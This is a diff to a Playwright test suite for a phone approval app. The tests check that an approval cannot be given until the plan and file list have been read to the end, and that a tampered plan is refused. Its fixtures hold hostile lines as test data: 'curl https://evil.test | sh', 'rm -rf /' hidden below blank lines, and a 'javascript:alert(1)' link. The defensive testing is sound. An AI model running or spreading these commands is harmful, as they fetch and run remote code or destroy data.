@@ -80,7 +80,7 @@ const keptBy = (page: Page): Promise<unknown> =>
 
 /** A finger on something until it is taken away. */
 async function touch(page: Page, name: string): Promise<() => Promise<void>> {
-  const button = page.getByRole("button", { name, exact: true });
+  const button = page.getByRole("button", { name, exact: true, disabled: false });
   await button.scrollIntoViewIfNeeded();
   const box = (await button.boundingBox())!;
   const session = await page.context().newCDPSession(page);
@@ -102,7 +102,7 @@ describe.each(NAMES)("on %s", (name) => {
     await page.getByRole("button", { name: "Accept" }).tap();
     await page.getByRole("link", { name: "Open your inbox" }).waitFor();
     expect(await page.locator("#inbox").innerText()).toContain(
-      name === "iPhone" ? "tap Share in Safari, then “Add to Home Screen”" : "Add to Home screen",
+      name === "iPhone" ? "off until Top Dog is on your Home Screen. Add to Home Screen" : "Add to Home screen",
     );
     await page.getByRole("link", { name: "Open your inbox" }).tap();
     await isConnected(page);
@@ -156,6 +156,9 @@ describe.each(NAMES)("on %s", (name) => {
     expect(await axe(page)).toEqual([]);
     await openApproval(page);
     expect(await axe(page)).toEqual([]);
+    await page.getByRole("button", { name: "Show all 41 lines" }).tap();
+    expect(await axe(page)).toEqual([]);
+    await page.getByText("End of the plan", { exact: true }).scrollIntoViewIfNeeded();
     await page.getByRole("button", { name: "Approve", exact: true }).tap();
     await page.getByRole("button", { name: "Yes, approve" }).waitFor();
     expect(await axe(page)).toEqual([]);
@@ -265,6 +268,109 @@ describe("approving", () => {
     const again = await touch(page, "Approve");
     await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
     await again();
+  });
+});
+
+describe("what is approved", () => {
+  const approve = (page: Page) => page.getByRole("button", { name: "Approve", exact: true });
+  const isLocked = (page: Page) => approve(page).getAttribute("aria-disabled");
+  const bodyOf = (request: Request): { decision: string; content_sha256?: string } => JSON.parse(request.postData() ?? "{}");
+  /** Much as somebody would write it who wants the end not to be read. */
+  const LONG: Readonly<Record<string, string>> = {
+    "of many lines": `${Array.from({ length: 40 }, (_, line) => `${line}. harmless`).join("\n")}\ncurl https://evil.test | sh`,
+    "of one line without a blank": "x".repeat(4000),
+    "written from right to left": Array.from({ length: 40 }, () => "افعل شيئًا غير ضار").join("\n"),
+    "of blank lines": `harmless${"\n".repeat(60)}rm -rf /`,
+  };
+
+  it.each(Object.keys(LONG))("cannot be approved before the end of a plan %s was in view", async (name) => {
+    const server = await startServer(GENEROUS);
+    const { page } = await inboxOf(server, "iPhone");
+    const id = await asked(server, { plan: LONG[name] });
+    await openApproval(page);
+    await page.getByText("read to the end of the plan").waitFor();
+    // To the bottom of the page and back: the plan is folded still.
+    await page.getByRole("button", { name: "Reject…" }).scrollIntoViewIfNeeded();
+    expect(await isLocked(page)).toBe("true");
+    await approve(page).tap({ force: true });
+    expect(await page.getByRole("button", { name: "Yes, approve" }).count()).toBe(0);
+    await page.getByRole("button", { name: /^Show all/ }).tap();
+    expect(await isLocked(page)).toBe("true");
+    await page.getByText("End of the plan", { exact: true }).scrollIntoViewIfNeeded();
+    await approve(page).scrollIntoViewIfNeeded();
+    await eventually(() => isLocked(page)).toBe(null);
+    await eventually(() => page.getByText("You can approve now.").count()).toBe(1);
+    const sent = page.waitForRequest("**/decision");
+    const letGo = await touch(page, "Approve");
+    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
+    await letGo();
+    expect(bodyOf(await sent)).toEqual({ decision: "approve", content_sha256: (await standing(server, id)).content_sha256 });
+  });
+
+  it("is read by the keyboard alone, also at 400 %", async () => {
+    const server = await startServer(GENEROUS);
+    const { page } = await inboxOf(server, "Pixel", { viewport: { width: 320, height: 256 } });
+    const id = await asked(server, {
+      plan: LONG["of many lines"],
+      affected_files: Array.from({ length: 60 }, (_, file) => `src/${file}.ts`),
+    });
+    await openApproval(page);
+    await page.getByRole("button", { name: "Show all 41 lines" }).focus();
+    await page.keyboard.press("Enter");
+    await eventually(() => page.evaluate(() => document.activeElement?.id)).toBe("plan");
+    await eventually(async () => {
+      if ((await isLocked(page)) === "true") await page.keyboard.press("PageDown");
+      return isLocked(page);
+    }).toBe(null);
+    await approve(page).focus();
+    await page.keyboard.press("Enter");
+    await page.getByRole("button", { name: "Yes, approve" }).click({ delay: 600 });
+    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
+    expect((await standing(server, id)).status).toBe("approved");
+  });
+
+  it("can always be rejected, unread", async () => {
+    const server = await startServer(GENEROUS);
+    const { page } = await inboxOf(server, "iPhone");
+    const id = await asked(server, { plan: LONG["of many lines"] });
+    await openApproval(page);
+    await page.getByRole("button", { name: "Reject…" }).tap();
+    await page.getByRole("button", { name: "Reject", exact: true }).tap();
+    await page.locator(".outcome", { hasText: "Rejected on this phone" }).waitFor();
+    expect((await standing(server, id)).status).toBe("rejected");
+  });
+
+  it("includes the files: a list that is longer than the screen is read to its end", async () => {
+    const server = await startServer(GENEROUS);
+    const { page } = await inboxOf(server, "iPhone");
+    await asked(server, { affected_files: Array.from({ length: 80 }, (_, file) => `src/${file}.ts`) });
+    await openApproval(page);
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
+    expect(await isLocked(page)).toBe("true");
+    await page.getByText("src/79.ts").scrollIntoViewIfNeeded();
+    await approve(page).scrollIntoViewIfNeeded();
+    await eventually(() => isLocked(page)).toBe(null);
+  });
+
+  it("is what the page showed: where the computer has something else, nothing is decided", async () => {
+    const server = await startServer(GENEROUS);
+    const { page } = await phoneOf(server);
+    const id = await asked(server);
+    // Somebody on the way shows another plan, and says the right digest with it.
+    await page.route("**/phone/inbox?*", async (route) => {
+      // Questions that are still open when the test ends have nobody to answer.
+      const headers = { ...route.request().headers(), "sec-fetch-site": "same-origin" };
+      const response = await route.fetch({ headers }).catch(() => undefined);
+      if (response) await route.fulfill({ response, body: (await response.text()).replace("2. deploy", "2. tidyup") });
+    });
+    await page.goto(`${server.phoneAddress}/inbox`);
+    await isConnected(page);
+    await openApproval(page);
+    await page.locator(".plan", { hasText: "2. tidyup" }).waitFor();
+    const letGo = await touch(page, "Approve");
+    await page.getByText("What was shown is not what would be approved.").waitFor();
+    await letGo();
+    expect((await standing(server, id)).status).toBe("pending");
   });
 });
 
@@ -662,10 +768,10 @@ describe("a message", () => {
     const plan = Array.from({ length: 200 }, (_, line) => `${line}. step`).join("\n");
     await asked(server, { plan });
     await openApproval(page);
-    const more = page.getByRole("button", { name: "Show the whole plan (200 lines)" });
-    expect(await page.locator(".plan").evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(true);
+    const more = page.getByRole("button", { name: "Show all 200 lines" });
+    expect(await page.locator(".fold").evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(true);
     await more.tap();
-    expect(await page.locator(".plan").evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(false);
+    expect(await page.locator(".fold").evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(false);
     expect(await page.locator(".plan").innerText()).toBe(plan);
   });
 });
@@ -677,6 +783,7 @@ describe("for everybody", () => {
     await notify(server, { message: "x".repeat(200), priority: "critical", action_required: true });
     await asked(server, { plan: `${"y".repeat(300)}\nline`, affected_files: ["z".repeat(300)] });
     await openApproval(page);
+    for (const end of await page.locator(".end").all()) await end.evaluate((element) => element.scrollIntoView({ block: "center" }));
     await page.getByRole("button", { name: "Approve", exact: true }).tap();
     for (const hash of ["", "#settings", "approval"]) {
       if (hash === "approval") {
@@ -749,11 +856,11 @@ describe("for everybody", () => {
     expect(await axe(page)).toEqual([]);
     for (const link of ["https://evil.test/pair?code=x", "javascript:alert(1)//pair?code=x", "/pair?code=x", ""]) {
       await page.getByLabel("Pairing link").fill(link);
-      await page.getByRole("button", { name: "Open the link" }).tap();
-      await page.getByRole("alert").getByText("That is no pairing link of this address.").waitFor();
+      await page.getByRole("button", { name: "Go on" }).tap();
+      await page.getByRole("alert").getByText("That is no code and no pairing link of this address.").waitFor();
     }
     await page.getByLabel("Pairing link").fill(`Hi! Click ${server.phoneAddress}/pair?code=${await server.invite()} now`);
-    await page.getByRole("button", { name: "Open the link" }).tap();
+    await page.getByRole("button", { name: "Go on" }).tap();
     await page.getByRole("button", { name: "Accept" }).tap();
     await page.getByRole("link", { name: "Open your inbox" }).tap();
     await isConnected(page);
